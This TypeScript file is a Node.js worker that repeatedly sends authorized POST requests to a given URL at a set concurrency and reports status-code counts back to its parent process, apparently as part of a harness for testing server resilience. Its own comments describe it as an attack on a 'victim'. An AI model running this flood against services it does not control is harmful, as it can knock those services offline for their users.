import { Agent, request } from "node:http";
import { setTimeout as delay } from "node:timers/promises";
import { once } from "node:events";

/** What the attack sends, over and over. */
export interface Flood {
  url: string;
  authorization: string;
  body: string;
  /** Requests that are under way at a time. */
  loops: number;
}

const PAUSE_AFTER_FAILURE_MS = 100;

/** What it got: answers by their status, and the size of the largest in bytes. */
export interface Flooded {
  counts: Record<string, number>;
  largest: number;
}

const [{ url, authorization, body, loops }] = (await once(process, "message")) as [Flood];
const agent = new Agent({ keepAlive: true, maxSockets: loops });
const headers = {
  authorization,
  "content-type": "application/json",
  "content-length": Buffer.byteLength(body),
};
const counts: Record<string, number> = {};
let largest = 0;
const stopping = new AbortController();

/** Reads an answer and throws it away: parsing it would be work on the victim's cores. */
function ask(): Promise<void> {
  return new Promise((resolve, reject) => {
    const sent = request(url, { agent, method: "POST", headers }, (answer) => {
      let bytes = 0;
      answer.on("data", (chunk: Buffer) => {
        bytes += chunk.length;
      });
      answer.on("end", () => {
        largest = Math.max(largest, bytes);
        counts[answer.statusCode ?? 0] = (counts[answer.statusCode ?? 0] ?? 0) + 1;
        resolve();
      });
      answer.on("error", reject);
    });
    sent.on("error", reject);
    sent.end(body);
  });
}

async function loop(): Promise<void> {
  while (!stopping.signal.aborted) {
    try {
      await ask();
    } catch (error) {
      if (stopping.signal.aborted) return;
      const name = error instanceof Error && "code" in error ? String(error.code) : "error";
      counts[name] = (counts[name] ?? 0) + 1;
      await delay(PAUSE_AFTER_FAILURE_MS);
    }
  }
}

process.once("message", () => {
  stopping.abort();
  agent.destroy();
});
await Promise.all(Array.from({ length: loops }, loop));
process.send?.({ counts, largest } satisfies Flooded);
process.disconnect?.();
